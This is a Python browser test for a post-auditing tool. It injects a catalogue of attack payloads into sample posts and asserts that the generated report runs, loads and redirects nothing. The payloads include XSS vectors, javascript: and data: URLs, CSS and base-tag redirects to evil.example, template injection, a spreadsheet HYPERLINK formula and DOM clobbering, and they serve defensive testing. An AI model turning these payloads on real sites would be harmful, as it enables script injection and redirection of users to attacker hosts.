"""Posts that attack in every field, audited and opened in a browser: nothing of theirs may run, load or lead away."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from audit import Settings, audit
from tests.browser.conftest import everything_open

pytestmark = pytest.mark.browser

EXAMPLE = Path(__file__).parents[2] / "examples" / "posts.json"

RUN = "window.owned=1"
PAYLOADS = {
    "script": f"</title></textarea></style></template></noscript></script><script>{RUN}</script>",
    "handler": f"\"'><img src=x onerror={RUN}><details open ontoggle={RUN}><body onload={RUN}>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>"
    f'<svg><use href="data:image/svg+xml,%3Csvg id=x onload={RUN}%3E#x"/></svg>',
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "css": "</style><style>@import 'https://evil.example/a.css';body{display:none;background:url(//evil.example/b)}",
    "css in an attribute": 'x" style="position:fixed;inset:0;background:url(https://evil.example/c)',
    "url": f"javascript:{RUN}//https://evil.example/",
    "url with blanks": f"java\tscript:{RUN}",
    "data url": "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==",
    "template": "{{ 1337*1337 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
    "${1337*1337}#{1337*1337}<%= 1337*1337 %>",
    "markdown": f"[click](javascript:{RUN}) ![x](https://evil.example/d.png) `</code><script>{RUN}</script>`",
    "json": f'"}}],"posts":[{{"x":"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e\u2028\u2029',
    "comment": f"--><!--><script>{RUN}</script><!-- ]]><![CDATA[<script>{RUN}</script>",
    "base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">'
    "<form action=//evil.example>",
    "direction": "\u202e\u2066gnp.exe\u2069\u202c\u200b\u200d\ufeff\x00\x1b[31m\x9b31m\ud800",
    "spreadsheet": '=HYPERLINK("https://evil.example/";"x")',
    "clobbering": "<a id=top name=data></a><form id=q><input name=textContent></form><img name=getElementById id=said>",
}


def poisoned(value, payload):
    """A record with the payload in every text, and as a key of every table."""
    if isinstance(value, dict):
        return {**{key: poisoned(inner, payload) for key, inner in value.items()}, payload: payload}
    if isinstance(value, list):
        return [poisoned(inner, payload) for inner in value]
    return payload if isinstance(value, str) else value


def in_content(post, payload):
    """A post that is whole, with the payload as text, in attributes, in a script, and as the address of everything."""
    changed = copy.deepcopy(post)
    quoted = payload.replace("&", "&amp;").replace('"', "&quot;")
    changed["title"]["rendered"] = payload
    changed["content"]["rendered"] += (
        f'<p>{payload}</p><p title="{quoted}"><a href="{quoted}">{payload}</a><img src="{quoted}" alt="{quoted}">'
        f'<a href="https://evil.example/{quoted}">click here</a><a rel="sponsored" href="{quoted}"></a>'
        f'<iframe src="{quoted}"></iframe><script type="application/ld+json">{{"@type": "{payload}"}}</script>'
        f'<div style="display:none"><a href="https://casino.example/{quoted}">casino {payload}</a></div>'
    )
    return changed


@pytest.fixture(scope="module")
def audited():
    base = json.loads(EXAMPLE.read_text("utf-8"))[0]
    posts = []
    for number, payload in enumerate(PAYLOADS.values()):
        for post in (poisoned(base, payload), in_content(base, payload)):
            posts.append({**post, "id": len(posts) + 1, "link": f"https://saltmarsh.example/attack-{number}/"})
    posts += [poisoned(base, payload) for payload in PAYLOADS.values()]
    report = audit(posts, Settings(offline=True, preview=True))
    assert report.summary.posts == 3 * len(PAYLOADS)
    assert report.summary.findings.total > 10 * len(PAYLOADS)
    return report


@pytest.fixture
def corpus_report(audited):
    return audited


def test_nothing_of_a_hostile_corpus_runs_loads_or_leads_away(view):
    opened = view("corpus_report")
    page = opened.page
    for view_of in ("by-post", "by-link", "by-site", "by-rule"):
        page.locator(f'.tabs a[href="#{view_of}"]').click()
        page.locator("#all").click()
    everything_open(opened)
    for payload in ("</script>", "onerror", "javascript:", "{{ 1337*1337 }}"):
        page.locator("#q").fill(payload)
        page.locator("#q").press("Enter")
        assert not opened.text("#said").startswith("0 of"), payload
    page.locator("#clear").click()

    assert page.evaluate("window.owned") is None
    assert opened.trouble == []
    assert page.evaluate("violations") == []
    assert [url for url in opened.requests if not url.startswith(("data:image/svg", opened.address))] == []
    assert page.evaluate("location.href").startswith(opened.address)
    assert page.evaluate("document.scripts.length") == 3
    assert (
        page.evaluate("document.querySelectorAll('img,iframe,object,embed,form,base,style:not(head>style)').length")
        == 0
    )
    assert page.evaluate("document.querySelectorAll('meta[http-equiv=refresh]').length") == 0
    attributes = page.evaluate("[...new Set([...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()))]")
    assert not [name for name in attributes if name.startswith("on") or name in {"style", "src", "srcset", "action"}]
    addresses = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
    assert not [address for address in addresses if not address.startswith((opened.address, "https://", "http://"))]
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids))
    assert "1787569" not in page.content()


def test_what_attacks_is_shown_to_the_reader(view):
    opened = view("corpus_report", java_script_enabled=False)
    source = opened.page.content()

    for shown in ("&lt;script&gt;window.owned=1", "onerror=window.owned=1", "{{ 1337*1337 }}", "U+202E"):
        assert shown in source, shown
